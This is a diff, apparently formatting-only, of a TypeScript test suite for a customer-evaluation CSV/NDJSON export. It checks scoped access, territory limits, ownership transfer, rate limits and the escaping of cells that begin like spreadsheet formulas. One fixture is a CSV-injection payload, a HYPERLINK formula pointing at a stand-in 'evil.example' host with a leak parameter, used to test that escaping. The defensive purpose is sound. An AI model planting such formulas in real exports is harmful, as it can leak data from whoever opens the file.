@@ -15,7 +15,9 @@ let priorCycleId: string;
 const QUIRKY_NAME = 'Quote "Co", Ltd\nBranch; 华东';
 /** Text a spreadsheet program would run as a formula: one customer (name and registration id) per first character. */
 const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
-const FORMULA_NAMES = FORMULA_STARTS.map((start, index) => (index === 0 ? '=HYPERLINK("https://evil.example/?leak=1","Open")' : `${start}${index}+1 Trading Co.`));
+const FORMULA_NAMES = FORMULA_STARTS.map((start, index) =>
+  index === 0 ? '=HYPERLINK("https://evil.example/?leak=1","Open")' : `${start}${index}+1 Trading Co.`,
+);
 const FORMULA_IDS = FORMULA_STARTS.map((start, index) => `${start}91330${index}`);
 /** The prior cycle's grades start like formulas too (grade names are trimmed: no tab or CR); they come back as previous_grade. */
 const PRIOR_GRADES = ['=', '+', '-', '@'].map((start, index) => `${start}G${index + 1}`);
@@ -32,7 +34,8 @@ function asSpreadsheetText(value: string): string {
   return FORMULA_STARTS.includes(value.charAt(0)) ? `'${value}` : value;
 }
 
-const sql = <T = Record<string, unknown>>(query: string, params: unknown[] = []) => t.orm.em.fork().getConnection().execute<T[]>(query, params);
+const sql = <T = Record<string, unknown>>(query: string, params: unknown[] = []) =>
+  t.orm.em.fork().getConnection().execute<T[]>(query, params);
 
 /** An API key row as createApiKey would write it; returns the bearer token. */
 async function apiKey(scopes: string[], territories: string[]): Promise<string> {
@@ -40,7 +43,12 @@ async function apiKey(scopes: string[], territories: string[]): Promise<string> 
   const secret = randomBytes(32).toString('base64url');
   const id = randomUUID();
   await sql(`insert into api_key (id, name, prefix, secret_hash, kind, scopes, created_by_id) values (?, ?, ?, ?, 'BI', ?::text[], ?)`, [
-    id, `bi ${prefix}`, prefix, hashSecret(secret), `{${scopes.join(',')}}`, t.baseline.users.admin.id,
+    id,
+    `bi ${prefix}`,
+    prefix,
+    hashSecret(secret),
+    `{${scopes.join(',')}}`,
+    t.baseline.users.admin.id,
   ]);
   for (const region of territories) await sql('insert into api_key_territory (api_key_id, region_id) values (?, ?)', [id, region]);
   return `acc_${prefix}_${secret}`;
@@ -82,12 +90,16 @@ function objects(records: string[][]): Record<string, string>[] {
 }
 
 const exportAs = (token: string | null, query: Record<string, string>) => {
-  const request = supertest(server).get('/export/evaluations').query(query).buffer(true).parse((res, done) => {
-    let body = '';
-    res.setEncoding('utf8');
-    res.on('data', (chunk: string) => (body += chunk));
-    res.on('end', () => done(null, body));
-  });
+  const request = supertest(server)
+    .get('/export/evaluations')
+    .query(query)
+    .buffer(true)
+    .parse((res, done) => {
+      let body = '';
+      res.setEncoding('utf8');
+      res.on('data', (chunk: string) => (body += chunk));
+      res.on('end', () => done(null, body));
+    });
   return token ? request.set('authorization', `Bearer ${token}`) : request;
 };
 
@@ -103,15 +115,25 @@ async function connection(send: (variables: Record<string, unknown>) => Promise<
   do {
     const { body } = await send({ id: cycleId, after });
     // Only admins get the company-wide contribution and score (docs/evaluation.md); nothing else may fail.
-    expect((body.errors ?? []).filter((error: any) => !(error.extensions?.code === 'FORBIDDEN' && ['contribution', 'score'].includes(error.path?.at(-1))))).toEqual([]);
+    expect(
+      (body.errors ?? []).filter(
+        (error: any) => !(error.extensions?.code === 'FORBIDDEN' && ['contribution', 'score'].includes(error.path?.at(-1))),
+      ),
+    ).toEqual([]);
     nodes.push(...body.data.evaluations.edges.map((edge: any) => edge.node));
     after = body.data.evaluations.pageInfo.hasNextPage ? body.data.evaluations.pageInfo.endCursor : null;
   } while (after);
   return nodes;
 }
 
-const asUser = (who: Principal) => (variables: Record<string, unknown>) => t.http().post('/graphql').set('authorization', `Bearer ${t.tokenFor(who)}`).send({ query: FEED, variables });
-const asKey = (token: string) => (variables: Record<string, unknown>) => t.http().post('/graphql').set('authorization', `Bearer ${token}`).send({ query: FEED, variables });
+const asUser = (who: Principal) => (variables: Record<string, unknown>) =>
+  t
+    .http()
+    .post('/graphql')
+    .set('authorization', `Bearer ${t.tokenFor(who)}`)
+    .send({ query: FEED, variables });
+const asKey = (token: string) => (variables: Record<string, unknown>) =>
+  t.http().post('/graphql').set('authorization', `Bearer ${token}`).send({ query: FEED, variables });
 
 /** The connection's node in the export's terms (CSV: text, '' for null). */
 function asCsvRow(node: Record<string, any>): Record<string, string> {
@@ -142,21 +164,36 @@ function asCsvRow(node: Record<string, any>): Record<string, string> {
 
 /** Numbers compare as numbers (PostgreSQL and JavaScript may spell a double differently). */
 function comparable(row: Record<string, string>): Record<string, unknown> {
-  const numeric = new Set(['purchase_count', 'on_time_share', 'average_days_late', 'contribution', 'score', 'rank_in_region', 'rank_overall']);
-  return Object.fromEntries(Object.keys(asCsvRow({ customer: {}, region: null, territory: null })).map((key) => [key, numeric.has(key) && row[key] !== '' ? Number(row[key]) : row[key]]));
+  const numeric = new Set([
+    'purchase_count',
+    'on_time_share',
+    'average_days_late',
+    'contribution',
+    'score',
+    'rank_in_region',
+    'rank_overall',
+  ]);
+  return Object.fromEntries(
+    Object.keys(asCsvRow({ customer: {}, region: null, territory: null })).map((key) => [
+      key,
+      numeric.has(key) && row[key] !== '' ? Number(row[key]) : row[key],
+    ]),
+  );
 }
 
 beforeAll(async () => {
   t = await createTestApp();
   server = express();
   server.get('/export/evaluations', exportEvaluationsHandler(t.orm, t.app.config, pino({ level: 'silent' })));
-  await sql(`insert into customer (id, legal_name, normalized_name, territory_id, owner_id, registration_id, created_at, updated_at) values (?, ?, 'quote co branch', ?, ?, '9133QUIRKY', '2025-03-01T00:00:00Z', '2025-03-01T00:00:00Z')`, [
-    randomUUID(), QUIRKY_NAME, t.baseline.regions.hangzhou.id, t.baseline.users.repHangzhou.id,
-  ]);
+  await sql(
+    `insert into customer (id, legal_name, normalized_name, territory_id, owner_id, registration_id, created_at, updated_at) values (?, ?, 'quote co branch', ?, ?, '9133QUIRKY', '2025-03-01T00:00:00Z', '2025-03-01T00:00:00Z')`,
+    [randomUUID(), QUIRKY_NAME, t.baseline.regions.hangzhou.id, t.baseline.users.repHangzhou.id],
+  );
   for (const [index, name] of FORMULA_NAMES.entries()) {
-    await sql(`insert into customer (id, legal_name, normalized_name, territory_id, owner_id, registration_id, created_at, updated_at) values (?, ?, ?, ?, ?, ?, '2024-03-01T00:00:00Z', '2024-03-01T00:00:00Z')`, [
-      randomUUID(), name, `formula ${index}`, t.baseline.regions.hangzhou.id, t.baseline.users.repHangzhou.id, FORMULA_IDS[index],
-    ]);
+    await sql(
+      `insert into customer (id, legal_name, normalized_name, territory_id, owner_id, registration_id, created_at, updated_at) values (?, ?, ?, ?, ?, ?, '2024-03-01T00:00:00Z', '2024-03-01T00:00:00Z')`,
+      [randomUUID(), name, `formula ${index}`, t.baseline.regions.hangzhou.id, t.baseline.users.repHangzhou.id, FORMULA_IDS[index]],
+    );
   }
   const prior = await t.gqlAs('admin', `mutation ($input: CreateEvaluationCycleInput!) { createEvaluationCycle(input: $input) { id } }`, {
     input: {
@@ -169,14 +206,19 @@ beforeAll(async () => {
   });
   priorCycleId = prior.data!.createEvaluationCycle.id;
   await runCycle(priorCycleId);
-  expect((await t.gqlAs('admin', `mutation ($id: ID!) { publishEvaluationCycle(id: $id) { status } }`, { id: priorCycleId })).errors).toBeUndefined();
+  expect(
+    (await t.gqlAs('admin', `mutation ($id: ID!) { publishEvaluationCycle(id: $id) { status } }`, { id: priorCycleId })).errors,
+  ).toBeUndefined();
   const created = await t.gqlAs('admin', `mutation ($input: CreateEvaluationCycleInput!) { createEvaluationCycle(input: $input) { id } }`, {
     input: {
       name: 'FY2025, "annual"',
       periodStart: '2025-01-01',
       periodEnd: '2025-12-31',
       weights: { purchaseCount: 0.2, purchaseAmount: 0.2, amountPaid: 0.2, paymentTimeliness: 0.2, contribution: 0.2 },
-      grades: [{ name: 'A, top', minScore: 50 }, { name: 'B', minScore: 0 }],
+      grades: [
+        { name: 'A, top', minScore: 50 },
+        { name: 'B', minScore: 0 },
+      ],
     },
   });
   cycleId = created.data!.createEvaluationCycle.id;
@@ -225,7 +267,7 @@ describe('CSV export', () => {
     expect((response.body as string).charCodeAt(0)).toBe(0xfeff);
   });
 
-  it("gives a rep the accounts they may open", async () => {
+  it('gives a rep the accounts they may open', async () => {
     const response = await exportAs(t.tokenFor('repNingbo'), { cycle: cycleId, format: 'csv' });
     const rows = objects(parseCsv(response.body));
     const nodes = await connection(asUser('repNingbo'));
@@ -233,9 +275,19 @@ describe('CSV export', () => {
     expect(rows).toHaveLength(3);
   });
 
-  it("leaves the company-wide contribution and score out for anyone but admins, and every other column as it is", async () => {
-    const csvOf = async (who: Principal) => new Map(objects(parseCsv((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'csv' })).body)).map((row) => [row.customer_id, row]));
-    const ndjsonOf = async (who: Principal) => new Map(((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'ndjson' })).body as string).trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>).map((row) => [row.customer_id, row]));
+  it('leaves the company-wide contribution and score out for anyone but admins, and every other column as it is', async () => {
+    const csvOf = async (who: Principal) =>
+      new Map(
+        objects(parseCsv((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'csv' })).body)).map((row) => [row.customer_id, row]),
+      );
+    const ndjsonOf = async (who: Principal) =>
+      new Map(
+        ((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'ndjson' })).body as string)
+          .trim()
+          .split('\n')
+          .map((line) => JSON.parse(line) as Record<string, unknown>)
+          .map((row) => [row.customer_id, row]),
+      );
     const [adminCsv, adminJson] = [await csvOf('admin'), await ndjsonOf('admin')];
     expect([...adminCsv.values()].some((row) => Number(row.contribution) > 0)).toBe(true);
     expect([...adminCsv.values()].some((row) => Number(row.score) > 0)).toBe(true);
@@ -250,8 +302,20 @@ describe('CSV export', () => {
 });
 
 describe('CSV text that starts like a formula', () => {
-  const NUMERIC = ['purchase_count', 'purchase_amount', 'amount_paid', 'on_time_share', 'average_days_late', 'contribution', 'score', 'rank_in_region', 'rank_overall', 'customer_value'];
-  const formulaRows = (rows: Record<string, string>[]) => rows.filter((row) => FORMULA_NAMES.some((name) => row.customer_name === `'${name}`));
+  const NUMERIC = [
+    'purchase_count',
+    'purchase_amount',
+    'amount_paid',
+    'on_time_share',
+    'average_days_late',
+    'contribution',
+    'score',
+    'rank_in_region',
+    'rank_overall',
+    'customer_value',
+  ];
+  const formulaRows = (rows: Record<string, string>[]) =>
+    rows.filter((row) => FORMULA_NAMES.some((name) => row.customer_name === `'${name}`));
 
   /** No field a spreadsheet would run: nothing parses back starting with =, +, -, @, tab or CR, bar numbers. */
   function expectNoLiveFormula(rows: Record<string, string>[]): void {
@@ -285,14 +349,24 @@ describe('CSV text that starts like a formula', () => {
     expectNoLiveFormula(rows);
     expect(new Set(rows.map((row) => row.cycle_name))).toEqual(new Set([`'${PRIOR_NAME}`]));
     expect(rows.every((row) => PRIOR_GRADES.map((grade) => `'${grade}`).includes(row.grade))).toBe(true);
-    expect(formulaRows(rows).map((row) => row.registration_id).sort()).toEqual(FORMULA_IDS.map((id) => `'${id}`).sort());
-    const ndjson = ((await exportAs(key, { cycle: priorCycleId, format: 'ndjson' })).body as string).trim().split('\n').map((line) => JSON.parse(line));
+    expect(
+      formulaRows(rows)
+        .map((row) => row.registration_id)
+        .sort(),
+    ).toEqual(FORMULA_IDS.map((id) => `'${id}`).sort());
+    const ndjson = ((await exportAs(key, { cycle: priorCycleId, format: 'ndjson' })).body as string)
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
     expect(ndjson.map((row) => row.customer_name)).toContain(FORMULA_NAMES[0]);
     expect(ndjson[0].cycle_name).toBe(PRIOR_NAME);
   });
 
   it('leaves numbers alone: a negative number stays a number', async () => {
-    const [result] = await sql<{ id: string; customer_id: string }>('select id, customer_id from evaluation where cycle_id = ? order by customer_id limit 1', [cycleId]);
+    const [result] = await sql<{ id: string; customer_id: string }>(
+      'select id, customer_id from evaluation where cycle_id = ? order by customer_id limit 1',
+      [cycleId],
+    );
     await sql('update evaluation set customer_value = -12.50 where id = ?', [result!.id]);
     const rows = objects(parseCsv((await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'csv' })).body));
     expect(rows.find((row) => row.customer_id === result!.customer_id)!.customer_value).toBe('-12.50');
@@ -316,22 +390,34 @@ describe('CSV text that starts like a formula', () => {
 
 describe('export lines and ownership', () => {
   it('follow an account into new hands when a manager approves its transfer', async () => {
-    const csvOf = async (who: Principal) => objects(parseCsv((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'csv' })).body)).map((row) => row.customer_id);
+    const csvOf = async (who: Principal) =>
+      objects(parseCsv((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'csv' })).body)).map((row) => row.customer_id);
     const before = await csvOf('repNingbo');
     const moving = before[0]!;
     expect(await csvOf('repHangzhou')).not.toContain(moving);
-    const requested = await t.gqlAs('repHangzhou', `mutation ($input: RequestTransferInput!) { requestTransfer(input: $input) { id version } }`, {
-      input: { customerId: moving, reason: 'They buy through our Hangzhou office now' },
-    });
+    const requested = await t.gqlAs(
+      'repHangzhou',
+      `mutation ($input: RequestTransferInput!) { requestTransfer(input: $input) { id version } }`,
+      {
+        input: { customerId: moving, reason: 'They buy through our Hangzhou office now' },
+      },
+    );
     expect(requested.errors).toBeUndefined();
     const { id, version } = requested.data!.requestTransfer;
-    const approved = await t.gqlAs('managerEast', `mutation ($id: ID!, $version: Int!) { approveTransfer(id: $id, version: $version) { status } }`, { id, version });
+    const approved = await t.gqlAs(
+      'managerEast',
+      `mutation ($id: ID!, $version: Int!) { approveTransfer(id: $id, version: $version) { status } }`,
+      { id, version },
+    );
     expect(approved.errors).toBeUndefined();
     expect(approved.data!.approveTransfer.status).toBe('APPROVED');
 
     expect(await csvOf('repHangzhou')).toContain(moving);
     expect(await csvOf('repNingbo')).toEqual(before.filter((customer) => customer !== moving));
-    const [line] = await sql<{ owner_id: string; territory_id: string }>('select owner_id, territory_id from evaluation_export where customer_id = ?', [moving]);
+    const [line] = await sql<{ owner_id: string; territory_id: string }>(
+      'select owner_id, territory_id from evaluation_export where customer_id = ?',
+      [moving],
+    );
     expect(line).toEqual({ owner_id: t.baseline.users.repHangzhou.id, territory_id: t.baseline.regions.hangzhou.id });
   });
 });
@@ -386,7 +472,9 @@ describe('export access', () => {
     const unpublished = await asKey(eastKey)({ id: cycleId });
     expect(unpublished.body.errors[0].extensions.code).toBe('NOT_FOUND');
 
-    expect((await t.gqlAs('admin', `mutation ($id: ID!) { publishEvaluationCycle(id: $id) { status } }`, { id: cycleId })).errors).toBeUndefined();
+    expect(
+      (await t.gqlAs('admin', `mutation ($id: ID!) { publishEvaluationCycle(id: $id) { status } }`, { id: cycleId })).errors,
+    ).toBeUndefined();
     const response = await exportAs(eastKey, { cycle: cycleId, format: 'csv' });
     expect(response.status).toBe(200);
     const records = parseCsv(response.body);
@@ -410,7 +498,10 @@ describe('export access', () => {
     const full = objects(parseCsv((await exportAs(fullKey, { cycle: cycleId, format: 'csv' })).body));
     expect(full).toHaveLength(CUSTOMERS);
     expect(full.find((row) => row.customer_name === QUIRKY_NAME)!.registration_id).toBe('9133QUIRKY');
-    const fullNdjson = ((await exportAs(fullKey, { cycle: cycleId, format: 'ndjson' })).body as string).trim().split('\n').map((line) => JSON.parse(line));
+    const fullNdjson = ((await exportAs(fullKey, { cycle: cycleId, format: 'ndjson' })).body as string)
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
     expect(fullNdjson.find((row) => row.customer_name === QUIRKY_NAME).registration_id).toBe('9133QUIRKY');
     const ndjson = (await exportAs(eastKey, { cycle: cycleId, format: 'ndjson' })).body as string;
     expect(ndjson).not.toContain('registration_id');
@@ -420,7 +511,8 @@ describe('export access', () => {
 describe('export limits', () => {
   it('runs EXPORT_CONCURRENCY exports at once (2 by default) and answers 429 with Retry-After beyond', async () => {
     const token = t.tokenFor('admin');
-    const viaApp = () => supertest(t.app.express).get('/export/evaluations').query({ cycle: cycleId }).set('authorization', `Bearer ${token}`);
+    const viaApp = () =>
+      supertest(t.app.express).get('/export/evaluations').query({ cycle: cycleId }).set('authorization', `Bearer ${token}`);
     // Lock the cycles so the first two exports wait inside their transactions (for up to DB_LOCK_TIMEOUT_MS).
     const connection = t.orm.em.fork().getConnection();
     const hold = await connection.begin();
